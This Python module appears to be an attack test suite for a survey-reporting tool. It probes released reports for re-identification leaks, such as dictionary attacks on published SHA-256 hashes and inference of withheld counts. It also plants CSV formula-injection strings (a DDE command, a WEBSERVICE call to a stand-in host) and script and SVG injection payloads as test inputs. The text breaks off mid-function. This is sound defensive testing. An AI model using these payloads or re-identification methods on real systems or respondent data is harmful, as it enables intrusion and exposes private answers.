"""Single attacks, each with a survey of its own and a plain answer: it holds, or what it recovered."""
from __future__ import annotations

import csv
import io
import os
import random
import re
import shutil
import stat
import subprocess
import tempfile
from collections import Counter
from dataclasses import dataclass
from itertools import product
from pathlib import Path

from .audit import audit, told_questions
from .dictionary import all_forms, options, search, straight_lines
from .findings import narrowed
from .joint import bin_of, bins_of, not_nested, themes_joint, told_theme
from .model import guard_of
from .numbers import chance_and_spread, rank_sum_p
from .release import Release, folder_of, number, released_bytes
from .surveys import STATES, Declared, Survey, from_vectors, spread, truth_of_seminar, vectors_of

AUDIENCES = ["focal_points", "public", "secretariat"]


@dataclass
class Result:
    name: str
    leaks: bool
    persons: int           # person-answers that this attack alone recovers
    said: str


class Tool:
    def __init__(self, binary: Path, work: Path):
        self.binary, self.work = binary, work

    def call(self, *arguments, cwd=None):
        return subprocess.run(["nice", "-n", "10", str(self.binary), *map(str, arguments)], capture_output=True, text=True, cwd=cwd, check=False)

    def run(self, folder, reports, audience="focal_points", *more, cwd=None):
        return self.call("run", "--input", folder, "--reports", reports, "--audience", audience, "--lang", "en", "--charts", "svg", *more, cwd=cwd)

    def release(self, survey, name, audience="focal_points", seminar="C3P1"):
        """A survey written and run afresh; its folder and what was released."""
        root = self.work / name
        shutil.rmtree(root, ignore_errors=True)
        folder = survey.write(root / "input")
        done = self.run(folder, root / "reports", audience)
        place = folder_of(root / "reports", audience, seminar)
        if not (place / "manifest.json").exists():
            raise RuntimeError(f"{name}: {done.stdout}{done.stderr}")
        return folder, Release(place)

    def simulate(self, seed, folder, *more):
        shutil.rmtree(folder, ignore_errors=True)
        done = self.call("simulate", "--seed", seed, "--out", folder, *more)
        if done.returncode:
            raise RuntimeError(done.stderr)
        return folder


def person_by_person(sizes, people):
    """These people, in the order of delegations."""
    answers, at = {}, 0
    for state, size in sizes.items():
        answers[state], at = people[at:at + size], at + size
    return answers


# --- words on stability -----------------------------------------------------------------------------------------------------

def state_named_by_a_share(tool):
    """'unstable' though no single person changes the verdict once named a delegation. Two surveys with the same table, in which
    other people gave the answers, must be told by the same word."""
    said = []
    for pe in ([2, 1], [2, 4]):
        survey = Survey(["M01"], ["relevance"])
        rest = [4, 4, 4, 5, 5, 5, 4, 1, 2, 2, 3, 3] if pe[1] == 1 else [4, 4, 5, 5, 5, 4, 1, 1, 2, 2, 3, 3]
        single = [s for s in STATES if s not in ("PE", "BR", "MX")][:12]
        answers = {"PE": [{("M01", "relevance"): level} for level in pe]}
        answers |= {state: [{("M01", "relevance"): level}] for state, level in zip(single, rest)}
        attended = {state: len(people) for state, people in answers.items()} | {"BR": 2, "MX": 2}
        _, release = tool.release(survey.seminar("C3P1", answers, attended), "state_share")
        said.append((pe, release.finding("M01", "relevance", "favourable")["stability"]))
    leaks = said[0][1] != said[1][1] or "unstable" in dict((str(pe), word) for pe, word in said).values()
    return Result("a state's rating from the word 'unstable' on a share", leaks, 2 if leaks else 0, str(said))


def state_named_by_a_change(tool):
    """In each seminar three states sent two; only one of them did so in both. Its four people change the verdict, or others do."""
    earlier, later = (0, 3, 3, 8, 6), (6, 4, 4, 3, 3)

    def of_seminar(vector, own, twos):
        levels = [at + 1 for at, count in enumerate(vector) for _ in range(count)]
        for level in own:
            levels.remove(level)
        names = [s for s in STATES if s != "PE" for _ in range(2 if s in twos else 1)][:len(levels)]
        random.Random(1).shuffle(levels)
        answers = {"PE": [{("M01", "relevance"): level} for level in own]}
        for state, level in zip(names, levels):
            answers.setdefault(state, []).append({("M01", "relevance"): level})
        return answers

    said = []
    for pe in (([5, 5], [1, 1]), ([4, 4], [2, 3])):
        survey = Survey(["M01"], ["relevance"])
        survey.seminar("C2P1", of_seminar(earlier, pe[0], ("AR", "BO"))).seminar("C3P1", of_seminar(later, pe[1], ("BR", "CL")))
        _, release = tool.release(survey, "state_change")
        row = release.comparisons("M01", "relevance")[0]
        said.append((pe, row["verdict"], row["stability"]))
    leaks = said[0][1:] != said[1][1:]
    return Result("a state's ratings from the word 'unstable' on a change", leaks, 4 if leaks else 0, str(said))


def colleague_told_by_stable(tool):
    """'stable' once told an official what the colleague didn't answer: the word must be the same whoever sits beside whom."""
    words = set()
    for order in range(6):
        sizes = spread(20, STATES[:10])
        levels = [1, 1, 1, 2, 2, 3, 3] + [4] * 6 + [5] * 7
        random.Random(order).shuffle(levels)
        answers = person_by_person(sizes, [{("M01", "relevance"): level} for level in levels])
        _, release = tool.release(Survey(["M01"], ["relevance"]).seminar("C3P1", answers), "colleague")
        words.add(tuple(row["stability"] for row in release.findings))
    return Result("a colleague's answer from the word 'stable'", len(words) > 1, 2 if len(words) > 1 else 0,
                  f"one table, six ways to seat delegations of two: {len(words)} sets of words")


# --- floors -----------------------------------------------------------------------------------------------------------------

def verdict_of_a_group_too_small(tool):
    """A change of a question without favourable levels has no number, and once escaped the smallest group."""
    said, persons = [], 0
    for rules, people in (("minimum_answers = 1\n", 1), ("minimum_answers = 1\n", 3),
                          ("[minimum_group]\nfocal_points = 15\npublic = 15\n", 12)):
        survey = Survey(["M01", "M02"], ["relevance", "knowledge_before", "knowledge"])
        survey.rules = rules

        def of_seminar(levels):
            answers = from_vectors(spread(20), {("M02", "relevance"): (0, 0, 4, 8, 8)})
            for (state, at), level in zip([(s, i) for s in answers for i in range(len(answers[s]))], levels):
                answers[state][at] |= {("M01", "knowledge"): level, ("M01", "knowledge_before"): 3}
            return answers

        for audience in AUDIENCES:
            shown = []
            for level in (1, 5):
                survey.seminar("C2P1", of_seminar([3] * 20)).seminar("C3P1", of_seminar([level] * people))
                _, release = tool.release(survey, "small_verdict", audience)
                smallest = release.settings["smallest_group"]
                of_group = [row for row in release.findings if row["module"] == "M01" and row["item"] == "knowledge"]
                shown.append([(row["finding_id"], row["status"], row["verdict"], row["estimate"], row["lower"]) for row in of_group])
                told = [row["finding_id"] for row in of_group if row["verdict"] or row["estimate"] or row["lower"] or row["n"]]
                if people < smallest and (told or shown[0] != shown[-1]):
                    persons = max(persons, people)
                    said.append(f"{audience}: {people} of level {level} under a smallest group of {smallest}: {told}")
    return Result("numbers and verdicts of a group below the smallest, with minimum_answers = 1 or a raised floor", persons > 0, persons,
                  "; ".join(said) or "1, 3 and 12 people, all audiences: nothing is told of them")


# --- what is published about files ----------------------------------------------------------------------------------------------

def dictionary(tool):
    """SHA-256 of a file with one person's form, wherever a released file holds something like a hash."""
    chance = random.Random(3)
    modules = [f"M{n:02d}" for n in range(1, 8)]
    said, persons = [], 0
    for name, modules, items, straight in (("a form of seven questions", modules, ["relevance"], False),
                                           ("31 questions, all one mark but one", [f"M{n:02d}" for n in range(1, 11)],
                                            ["relevance", "method", "time", "satisfaction"], True)):
        survey = Survey(modules, items)
        keys = survey.columns()
        answers = {s: [{key: chance.choices([1, 2, 3, 4, 5], [1, 1, 2, 5, 6])[0] for key in keys}] for s in STATES}
        if straight:
            answers["PE"][0] = dict.fromkeys(keys, 2) | {("M03", "time"): 3}
        folder, release = tool.release(survey.seminar("C3P1", answers), "dictionary", "public")
        published = set(re.findall(rb"[0-9a-f]{64}", b"".join(released_bytes(release.folder, without=()).values())))
        published = {digest.decode() for digest in published}
        with open(folder / "C3P1/roster.csv", encoding="utf-8") as file:
            ids = [row["participant"] for row in csv.DictReader(file)]
        if straight:
            forms = straight_lines(keys)
            ids = [ids[list(answers).index("PE")]]
        else:
            forms = all_forms(keys, options(release, Declared(folder), keys))
        found, tries, seconds = search(published, survey, ids, forms)
        persons += len(found)
        said.append(f"{name}: {len(found)} recovered from {len(published)} published hashes, {tries} tried in {seconds:.1f} s")
    return Result("dictionary attack on published SHA-256", persons > 0, persons, "; ".join(said))


def names_of_deliveries(tool):
    """Names of delivered files in anything that is released: states, and what people write into file names."""
    survey = Survey(["M01"], ["relevance"])
    survey.seminar("C3P1", from_vectors(spread(20), {("M01", "relevance"): (3, 3, 4, 5, 5)}))
    survey.file_names = {("C3P1", "PE"): "PE Juan Perez DNI 12345678.csv"}
    root = tool.work / "names"
    shutil.rmtree(root, ignore_errors=True)
    folder = survey.write(root / "input")
    (folder / "deliveries.toml").write_text(
        '[[delivery]]\nfiles = "{seminar}/evaluations/PE*.csv"\nlayout = "wide"\nkeys.respondent = { column = "ID" }\n'
        'keys.state = { constant = "PE" }\n\n' + (folder / "deliveries.toml").read_text())
    found = {}
    for audience in AUDIENCES:
        tool.run(folder, root / "reports", audience)
        for seminar in ("C3P1", "cycles"):
            for path, data in released_bytes(folder_of(root / "reports", audience, seminar), without=()).items():
                names = [name for name in ("Juan Perez", "evaluations/", "AR.csv", "roster.csv", "P-10") if name.encode() in data]
                if names:
                    found[f"{audience}/{seminar}/{path}"] = names
    return Result("names of delivered files and ids in released files", bool(found), int("Juan Perez" in str(found)), str(found or "none"))


# --- bounds and withheld counts --------------------------------------------------------------------------------------------------

def told_apart(tool, name, surveys, audience):
    """Groups of surveys whose released files are the same, byte by byte."""
    groups = {}
    for what, survey in surveys.items():
        _, release = tool.release(survey, name, audience)
        groups.setdefault(tuple(released_bytes(release.folder).items()), []).append(what)
    return sorted(groups.values())


def one_module(vector, **more):
    return Survey(["M01"], ["relevance"]).seminar("C3P1", from_vectors(spread(sum(vector)), {("M01", "relevance"): vector}), **more)


def over_always_means_all(tool):
    """'over 90 %' once meant everybody. Nobody, one and two (for the public up to four) who dissent must look the same, in every file."""
    said, persons = [], 0
    for audience, dissents in (("focal_points", range(3)), ("public", range(5)), ("secretariat", range(3))):
        surveys = {f"{d} of 20 at level {level}": one_module(tuple(d if at == level - 1 else 9 if at == 4 else 11 - d if at == 3 else 0 for at in range(5)))
                   for d in dissents for level in (1, 3)}
        groups = told_apart(tool, "over", surveys, audience)
        persons += 20 if len(groups) > 1 else 0
        said.append(f"{audience}: {len(groups)} kinds of release for {len(surveys)} surveys")
    surveys = {f"{d} favourable": one_module((20 - d, 0, 0, d, 0)) for d in range(5)}
    groups = [sorted(group) for group in told_apart(tool, "over", surveys, "focal_points")]
    persons += 20 if any(len(group) == 1 and group[0][0] in "0123" for group in groups) else 0
    said.append(f"of 20, {groups} look alike")
    return Result("a bound that always means everybody, or nobody", persons > 0, persons, "; ".join(said))


def small_counts_follow(tool):
    """A withheld 1 or 2 once followed from the whole percent: every number of dissenters of 20, on either end."""
    said, persons, looked = [], 0, 0
    for audience in AUDIENCES:
        for low in range(21):
            folder, release = tool.release(one_module((low, 0, 0, 0, 20 - low)), "counts", audience)
            question = told_questions(release, Declared(folder))[("M01", "relevance")]
            scale, vectors = question.possible()
            high = {sum(v[at] for at in scale.of_class(2)) for v in vectors}
            looked += 1
            if len(high) == 1 and min(low, 20 - low) in (1, 2):
                persons += 20
                said.append(f"{audience}: {low} not favourable follows from {question.table}")
            of_files = narrowed(release, {}, Declared(folder), {("M01", "relevance"): question})
            if of_files.narrow:
                persons += 20
                said.append(str(of_files.narrow))
    return Result("a withheld 1 or 2 from shares, bounds and verdicts", persons > 0, persons, "; ".join(said) or f"{looked} releases: never")


def no_rating_counts_follow(tool):
    """Withheld counts by reason once followed from the non-response bounds. The same number of people without a rating, for other
    reasons, must look the same in every file."""
    said, leaks = [], False
    for audience in AUDIENCES:
        for silent in (1, 2, 3):
            surveys = {}
            for blank in range(silent + 1):
                sizes = spread(20 + silent, STATES)
                levels = [1] * 3 + [2] * 3 + [3] * 4 + [4] * 5 + [5] * 5 + [None] * blank + ["na"] * (silent - blank)
                people = [{("M01", "relevance"): level, ("M02", "relevance"): 1 + at % 5} for at, level in enumerate(levels)]
                if 0 < silent - blank < 3 or 0 < blank < 3:         # a reason with nobody or at least three may be told
                    surveys[f"{blank} blank, {silent - blank} not applicable"] = Survey(["M01", "M02"], ["relevance"]).seminar("C3P1", person_by_person(sizes, people))
            groups = told_apart(tool, "missing", surveys, audience)
            if len(groups) > 1:
                leaks = True
                said.append(f"{audience}: {groups}")
    return Result("withheld counts of missing answers by reason", leaks, 0, "; ".join(said) or "1, 2 and 3 without a rating: nothing tells why")


def verdict_pins_a_level(tool):
    """A verdict on the brink once gave a withheld level back: bounds beside an earlier seminar that is known in full."""
    key, said, persons = ("M01", "relevance"), [], 0
    for audience in AUDIENCES:
        for later in ((0, 0, 3, 1, 16), (0, 0, 2, 2, 16), (1, 0, 0, 3, 16), (0, 0, 0, 10, 10), (16, 2, 2, 0, 0)):
            survey = Survey(["M01"], ["relevance"])
            survey.seminar("C2P1", from_vectors(spread(20), {key: (0, 0, 4, 7, 9)})).seminar("C3P1", from_vectors(spread(20), {key: later}))
            folder, release = tool.release(survey, "brink", audience)
            declared, others = Declared(folder), {"C2P1": Release(release.folder.parent / "C2P1"), "C3P1": release}
            found = narrowed(release, others, declared, told_questions(release, declared))
            persons += 20 * bool(found.narrow)
            said += [f"{audience} {later}: {what}" for what in found.narrow]
    return Result("a verdict on the brink narrows a table", persons > 0, persons, "; ".join(said) or "15 releases: no statement contradicts a possible table")


# --- spreadsheets, browsers, terminals ----------------------------------------------------------------------------------------------

DDE = "Bien;=cmd|' /C calc'!A0;"
WEB = "Bien;=WEBSERVICE(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112)&CHAR(58)&CHAR(47)&CHAR(47)&CHAR(120)&B2)"
SCRIPT = '<script>document.documentElement.setAttribute("data-pwned","1")</script>'
IMAGE = '"><img src=x onerror="document.documentElement.setAttribute(\'data-pwned\',\'2\')">'
DRAWN = '</title></desc></text></svg><script>document.documentElement.setAttribute("data-pwned","3")</script>'


def hostile_survey(tool):
    survey = Survey(["M01", "M02"], ["relevance", "satisfaction", "comment", "improve"])
    vectors = {("M01", "relevance"): (3, 3, 4, 7, 7), ("M02", "relevance"): (0, 0, 4, 10, 10), (None, "satisfaction"): (0, 0, 4, 10, 10)}
    answers, texts = from_vectors(spread(24), vectors), [DDE, WEB, "=1+1", "\t=1", "x\n=1+1", SCRIPT, IMAGE, DRAWN]
    people = [(s, i) for s in answers for i in range(len(answers[s]))]
    for place, (state, at) in enumerate(people):
        answers[state][at][("M01", "comment")] = texts[place % len(texts)]
        answers[state][at][(None, "improve")] = texts[(place + 3) % len(texts)]
        survey.roster_extra[("C3P1", state, at)] = ([DDE, "=1+1", SCRIPT][place % 3], ["F;=2+2", IMAGE][place % 2])
    survey.seminar("C2P1", from_vectors(spread(24), vectors)).seminar("C3P1", answers)
    survey.module_titles = {"M01": SCRIPT + IMAGE, "M02": '=HYPERLINK("x")' + DRAWN}
    folder = survey.write(tool.work / "hostile/input")
    done = tool.run(folder, tool.work / "hostile/reports")
    return tool.work / "hostile/reports", done


def formulas(tool):
    """CSV files opened where ';' or a tab separates lists, as in Spanish and Portuguese spreadsheets."""
    reports, _ = hostile_survey(tool)
    found = {}
    for path in sorted(reports.rglob("*.csv")):
        text = path.read_text(encoding="utf-8")
        for delimiter in ",;\t":
            rows = csv.reader(io.StringIO(text), delimiter=delimiter, quoting=csv.QUOTE_MINIMAL if delimiter == "," else csv.QUOTE_NONE)
            bad = [c for row in rows for c in row if re.match(r"\s*[=+@]|\s*-[^\d.]", c)]
            if bad:
                found[f"{path.relative_to(reports)} by {delimiter!r}"] = bad[0][:40]
    return Result("formulas in CSV files where ';' separates", bool(found), 0, str(found))


def scripts(tool):
    """Labels, titles, comments, institutions with markup: does a browser run any of it?"""
    reports, done = hostile_survey(tool)
    chromium = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    pages = [reports / "C3P1/report.html", reports / "cycles/report.html"]
    pages += sorted((reports / "C3P1/charts/en").glob("*.slide.svg"))
    unescaped = [p.name for p in sorted(reports.rglob("*")) if p.suffix in (".html", ".svg") and
                 re.search(r"<script>document|<img src=x", p.read_text(encoding="utf-8"))]
    ran, tested = [], 0
    if chromium:
        for page in pages[:2] + pages[2:6]:
            profile = tempfile.mkdtemp(prefix="attack-chromium-")
            try:
                dom = subprocess.run([chromium, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={profile}",
                                      "--virtual-time-budget=2000", "--dump-dom", page.resolve().as_uri()],
                                     capture_output=True, text=True, timeout=90, check=False).stdout
                tested += 1
                if re.search(r'<(html|svg)[^>]* data-pwned="', dom):
                    ran.append(page.name)
            except subprocess.TimeoutExpired:
                pass
            finally:
                shutil.rmtree(profile, ignore_errors=True)
    escapes = "\x1b" in done.stdout + done.stderr
    return Result("scripts in pages and drawings, escapes on the terminal", bool(ran or unescaped or escapes), 0,
                  f"{tested} pages opened in Chromium, scripts ran in {ran}; unescaped markup in {unescaped}; terminal escapes: {escapes}")


# --- folders ------------------------------------------------------------------------------------------------------------------------

def confidential_inside_a_report(tool):
    """`--reports` beside or below a published report, by a relative path, '..' or a link."""
    root = tool.work / "inside"
    shutil.rmtree(root, ignore_errors=True)
    survey = Survey(["M01"], ["relevance"]).seminar("C3P1", from_vectors(spread(20), {("M01", "relevance"): (3, 3, 4, 5, 5)}))
    folder = survey.write(root / "input")
    tool.run(folder, root / "reports")
    tables = root / "reports/C3P1/tables"
    tool.run(folder, tables / "plain")
    tool.run(folder, "relative", cwd=tables)
    (tables / "deeper").mkdir()
    tool.run(folder, "../dots", cwd=tables / "deeper")
    (root / "link").symlink_to(tables)
    tool.run(folder, root / "link/linked")
    found = sorted(str(p.parent.relative_to(tables)) for p in tables.rglob("confidential"))
    published = sorted(p.name for p in tables.iterdir() if p.is_dir() and (p / "C3P1").exists())
    return Result("confidential/ inside a releasable folder", bool(found), 0, f"written by: {found}; reports nested by: {published}")


def modes(tool):
    """Modes of confidential/ under an open umask, where the folder was there before: empty, or with somebody's open file in it.

    In the second case the run may refuse and write nothing; if it writes, nothing may stay open.
    """
    said, leaks = [], False
    for name, foreign in (("empty", False), ("with a file", True)):
        root = tool.work / "modes" / name.replace(" ", "-")
        shutil.rmtree(root, ignore_errors=True)
        folder, confidential = one_module((3, 3, 4, 5, 5)).write(root / "input"), root / "reports/confidential"
        confidential.mkdir(parents=True)
        os.chmod(confidential, 0o755)
        if foreign:
            (confidential / "old.csv").write_text("x")
            os.chmod(confidential / "old.csv", 0o644)
        before = os.umask(0)
        try:
            codes = [tool.run(folder, root / "reports", audience).returncode for audience in ("focal_points", "secretariat")]
        finally:
            os.umask(before)
        files = [path for path in (root / "reports").rglob("*") if path.is_file() and path.name not in ("old.csv", ".lock")]
        wrong = [f"{p.relative_to(root)} {stat.S_IMODE(p.stat().st_mode):o}" for p in [confidential, *confidential.rglob("*")]
                 if stat.S_IMODE(p.stat().st_mode) & 0o077]
        refused = foreign and all(codes) and not files
        ignored = (confidential / ".gitignore").exists()
        leaks |= not refused and (bool(wrong) or not ignored or not files)
        said.append(f"{name}: {'refused, nothing was written' if refused else f'{len(files)} files, open to others: {wrong}, ignored by git: {ignored}'}")
    return Result("modes of confidential/, and whether git takes it", leaks, 0, "; ".join(said))


def deliveries_destroyed(tool):
    """`--reports` is the input folder, lies on or above it, or holds a folder of somebody's own with a seminar's name."""
    root = tool.work / "destroy"
    shutil.rmtree(root, ignore_errors=True)
    survey, said, leaks = one_module((3, 3, 4, 5, 5)), [], False
    (root / "elsewhere").mkdir(parents=True)
    for name, reports in (("the input", "above/input"), ("above it", "above"), ("in it", "above/input/reports"), ("a link to it", "link"),
                          ("a seminar's folder", "above/input/C3P1")):
        folder = survey.write(root / "above/input")
        link = root / "link"
        if not link.is_symlink():
            link.symlink_to(folder)
        before = {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}
        done = tool.run(folder, root / reports)
        kept = all(path.exists() and path.read_bytes() == data for path, data in before.items())
        more = [str(path.relative_to(root)) for path in folder.rglob("*") if path.is_file() and path not in before]
        leaks |= not kept or bool(more)
        said.append(f"{name}: code {done.returncode}, {'kept' if kept else 'DELETED'}, {len(more)} files written into it")
    other = survey.write(root / "second")
    (root / "mine/C3P1").mkdir(parents=True)
    (root / "mine/C3P1/letters.txt").write_text("mine")
    tool.run(other, root / "mine")
    kept = (root / "mine/C3P1/letters.txt").exists()
    said.append(f"a file of somebody's own in mine/C3P1 is {'kept' if kept else 'deleted'}")
    return Result("run deletes delivered files", leaks or not kept, 0, "; ".join(said))


def logs(tool):
    """Answers and respondents' ids in what `run` prints, and cells where a log asked for none."""
    folder, _ = tool.release(one_module((3, 3, 4, 5, 5)), "logs")
    path = folder / "C3P1/evaluations/PE.csv"
    path.write_text(path.read_text().replace("Strongly agree", "Stronly agree").replace("Strongly disagree", "Stronly disagree")
                    .replace("Agree", "Agre").replace("Neutral", "Neutrl").replace("Disagree", "Disgree"))
    who = path.read_text().splitlines()[1].split(",")[0]
    path.write_text(path.read_text() + path.read_text().splitlines()[1] + "\n")
    printed = {"run": tool.run(folder, tool.work / "logs/reports2"), "check --hide-cells": tool.call("check", "--input", folder, "--lang", "en", "--hide-cells"),
               "check --chase --hide-cells": tool.call("check", "--input", folder, "--lang", "en", "--chase", "--hide-cells"),
               "explain": tool.call("explain", "C3P1.M01.relevance.favourable", "--input", folder, "--lang", "en"),
               "compare": tool.call("compare", "C3P1", "C3P1", "--input", folder)}
    printed = {name: done.stdout + done.stderr for name, done in printed.items()}
    assert "H001" in printed["check --hide-cells"], printed        # it did look
    shown = [name for name, text in printed.items() if re.search(r"Stronly|Agre\b|Neutrl|Disgree", text)]
    ids = [name for name, text in printed.items() if re.search(rf"{who}\b", text)]
    return Result("answers and ids in what is printed", bool(shown or ids), int(bool(shown)), f"a cell's text: {shown}; respondents' ids: {ids}")


# --- several tables --------------------------------------------------------------------------------------------------------------------

def joint_table(tool):
    """Friedman's Q beside levels that are shown once gave back how the same people answered two questions: all surveys with these two
    tables must look the same, in every file."""
    for audience in AUDIENCES:
        surveys = {}
        for both in (3, 2, 1, 0):                    # of the three who rate M01 lowest, so many rate M02 lowest too
            first, second = [1] * 3 + [5] * 17, [1] * both + [5] * (3 - both) + [1] * (4 - both) + [5] * (13 + both)
            people = [{("M01", "relevance"): x, ("M02", "relevance"): y} for x, y in zip(first, second)]
            surveys[both] = Survey(["M01", "M02"], ["relevance"]).seminar("C3P1", person_by_person(spread(20), people))
        groups = told_apart(tool, "joint", surveys, audience)
        if len(groups) > 1:
            return Result("who answered two questions alike", True, 1, f"{audience}: by how many are in both lowest cells: {groups}")
    return Result("who answered two questions alike", False, 0, "0 to 3 people in both lowest cells: one kind of release, byte by byte")


def knowledge_survey(pairs):
    people = [{("M01", "knowledge_before"): x, ("M01", "knowledge"): y, ("M01", "relevance"): 1 + at % 5} for at, (x, y) in enumerate(pairs)]
    return Survey(["M01"], ["relevance", "knowledge_before", "knowledge"]).seminar("C3P1", person_by_person(spread(len(pairs)), people))


def joint_learning(tool):
    """Up, same and down beside the levels before and after once told apart a cell of one person in the table of both."""
    surveys = {leapt: knowledge_survey([(3, 3)] * 7 + [(3, 5)] * leapt + [(3, 4)] * (3 - leapt) + [(4, 4)] * (7 + leapt) + [(4, 5)] * (3 - leapt))
               for leapt in (0, 1, 2)}
    # `relevance` goes by the place in the row, so that it is the same in all; the pairs differ in who leapt.
    groups = told_apart(tool, "learning", surveys, "public")
    # That nobody leapt may follow where the differences leave whole; that one person did, whose answers it would tell, not.
    leaks = [1] in groups
    return Result("one person's answers before and after, from up, same and down", leaks, int(leaks),
                  f"20 people; before (0,0,10,10,0), after (0,0,7,10,3); by how many went from 3 to 5: {groups}")


def everybody_rose(tool):
    """Tables before and after that are whole, and between them a level that nobody crosses: then everybody rose, or all but some."""
    said, persons = [], 0
    for name, pairs in (("all rose", [(1, 4)] * 10 + [(2, 5)] * 10), ("all but one", [(1, 4)] * 10 + [(2, 5)] * 9 + [(3, 3)]),
                        ("all but three", [(1, 4)] * 9 + [(2, 5)] * 8 + [(3, 3)] * 3), ("all but four", [(1, 4)] * 8 + [(2, 5)] * 8 + [(3, 3)] * 4),
                        ("three fell, all others rose", [(4, 1)] * 3 + [(1, 4)] * 10 + [(2, 5)] * 7),
                        ("two fell, one stayed", [(4, 1)] * 2 + [(4, 4)] + [(1, 4)] * 10 + [(2, 5)] * 7),
                        ("all fell", [(4, 1)] * 10 + [(5, 2)] * 10)):
        for audience in AUDIENCES:
            folder, release = tool.release(knowledge_survey(pairs), "rose", audience)
            found = [what for what in audit(release, Declared(folder)).what if what[2] == ("M01", "knowledge")]
            if found:
                persons += 20
                said.append(f"{name}, {audience}: {found[0][3]}")
    return Result("who rose, from the tables before and after", persons > 0, persons, "; ".join(said) or "never")


def score_beside_items(tool):
    """Three items, of which one is told as a bound: does the module's standing, which rests on its score, tell that item?

    16 people; three are neutral on the first item, three others on the second, all else is 5. If the score were known, the six
    neutral ones would fill the bin under the top by themselves, and nobody would be left who isn't content with the third item.
    The standing among two modules is one number with p and an interval; every score table of the other module is tried.
    """
    items = ["relevance", "method", "facilitation"]
    first = [(3, 5, 5)] * 3 + [(5, 3, 5)] * 3 + [(5, 5, 5)] * 10
    second = [(5, 5, 5)] * 7 + [(3, 3, 3)] * 5 + [(3, 5, 5)] * 2 + [(5, 3, 3)] * 2
    people = [{("M01", item): level for item, level in zip(items, one)} | {("M02", item): level for item, level in zip(items, other)}
              for one, other in zip(first, second)]
    survey = Survey(["M01", "M02"], items).seminar("C3P1", person_by_person(spread(16), people))
    said, persons = [], 0
    for audience in AUDIENCES:
        folder, release = tool.release(survey, "score", audience)
        row = release.standing("M01")
        questions = told_questions(release, Declared(folder))
        hidden = questions[("M01", "facilitation")]
        if hidden.table[0] != "at_least" or row is None or not row["estimate"]:
            said.append(f"{audience}: no standing is told beside {hidden.table[:1]}")
            continue
        scores = [1.0, 2.0, 3.0, 4.0, 5.0]
        of_first, of_second = worlds_of_module(questions, "M01", items, scores), worlds_of_module(questions, "M02", items, scores)
        possible = set()
        for bins, contents in of_first.items():
            if not contents <= possible and any(explains_standing(row, bins, beside) for beside in of_second):
                possible |= contents
        known = {content for content in of_first[tuple(score_bins(first, scores))]}
        said.append(f"{audience}: third item {hidden.table}, {len(hidden.possible()[1])} tables possible, {len(known)} beside the score, "
                    f"{len(possible)} beside the standing")
        for name, left in (("the score", known), ("the standing", possible)):
            if len({sum(content[:3]) for content in left}) == 1:
                persons += 16
                said.append(f"{audience}: {name} tells that {sum(next(iter(left))[3:])} of 16 are favourable")
    return Result("an item's hidden answers from the module's score or standing", persons > 0, persons, "; ".join(said))


def explains_standing(row, own, others):
    """Whether these two score tables have the number, the p and about the interval of a standing."""
    chance, spread_of = chance_and_spread(others, own)
    if abs(chance - number(row["estimate"])) > 1e-9:
        return False
    if row["lower"]:
        half = (number(row["upper"]) - number(row["lower"])) / 2
        # half = t(df)·√spread, with t between 1.96 and 2.4 for these numbers of answers.
        if not 1.96 ** 2 < half * half / max(spread_of, 1e-12) < 2.4 ** 2:
            return False
    return not row["p"] or abs(rank_sum_p(tuple(others), tuple(own))[0] - number(row["p"])) < 1e-9


def score_bins(people, scores):
    counts = Counter(bin_of(one, scores, len(one)) for one in people)
    return [counts[at] for at in bins_of(scores)]


def worlds_of_module(questions, module, items, scores):
    """{score table: the third item's tables} of all ways in which people can have answered these three items."""
    whole = [questions[(module, item)].table[2] for item in items[:2]]
    last = questions[(module, items[2])].possible()[1]
    used = [[level for level, count in enumerate(table) if count] for table in whole]
    found = {}
    for joint in matrices(whole[0], whole[1]):
        cells = [(x, y, joint[x][y]) for x in used[0] for y in used[1] if joint[x][y]]
        for vector in last:
            for rows in spread_over(cells, vector):
                counts = Counter()
                for (x, y, z), many in rows.items():
                    counts[bin_of((x + 1, y + 1, z + 1), scores, 3)] += many
                found.setdefault(tuple(counts[at] for at in bins_of(scores)), set()).add(vector)
    return found


def matrices(rows, columns):
    """Every table of counts with these sums of rows and columns."""
    if not rows:
        if not any(columns):
            yield []
        return
    def fill(left, places):
        if not places:
            if left == 0:
                yield ()
            return
        for here in range(min(left, places[0]) + 1):
            for rest in fill(left - here, places[1:]):
                yield (here, *rest)
    for row in fill(rows[0], columns):
        for rest in matrices(rows[1:], tuple(c - r for c, r in zip(columns, row))):
            yield [row, *rest]


def spread_over(cells, vector):
    """Every way in which the people of the cells can have given the answers of a vector: {(x, y, z): people}."""
    sums = tuple(many for _, _, many in cells)
    for table in matrices(sums, vector):
        yield {(x, y, z): many for (x, y, _), row in zip(cells, table) for z, many in enumerate(row) if many}


# --- questions without favourable levels, options, themes -------------------------------------------------------------------------------

def two_options(tool):
    """Yes or no: where a bound of 'yes' isn't told, fewer said yes than that; with few answers 'no' is then told of nearly all."""
    said, persons = [], 0
    for n in (7, 8, 9, 10, 11, 12, 20):
        for yes in range(n + 1):
            for audience in AUDIENCES if n >= 10 else ["secretariat"]:
                if n > 8 and yes not in (0, 1, 2, 3, 4, n // 2, n - 4, n - 3, n - 2, n - 1, n):
                    continue
                survey = Survey(["M01"], ["relevance", "again"])
                vectors = {(None, "again"): (yes, n - yes), ("M01", "relevance"): (2, 1, 1, 1, n - 5)}
                folder, release = tool.release(survey.seminar("C3P1", from_vectors(spread(n), vectors)), "two", audience)
                found = [what for what in audit(release, Declared(folder)).what if what[2] == (None, "again")]
                if found:
                    persons += n - 3
                    said.append(f"{audience}, {yes} of {n} said yes: {found[0][3]}")
    return Result("the other option of two, from the order in which bounds are told", persons > 0, persons, "; ".join(said) or "never")


def chosen_options(tool):
    """Of several options each is told by itself; what two or three who chose what nobody else did learn is not for the public."""
    said, persons = [], Counter()
    for n, chosen in product((12, 20), (0, 1, 2, 3, 4, 9, 10, 11)):
        sizes = spread(n)
        people = [{(None, "topics"): [1] * (at < chosen) + [2, 3] * (at % 2) + [3] * (at % 2 == 0), ("M01", "relevance"): 1 + at % 5} for at in range(n)]
        people = [{key: sorted(set(value)) if isinstance(value, list) else value for key, value in person.items()} for person in people]
        survey = Survey(["M01"], ["relevance", "topics"]).seminar("C3P1", person_by_person(sizes, people))
        for audience in AUDIENCES:
            folder, release = tool.release(survey, "options", audience)
            declared = Declared(folder)
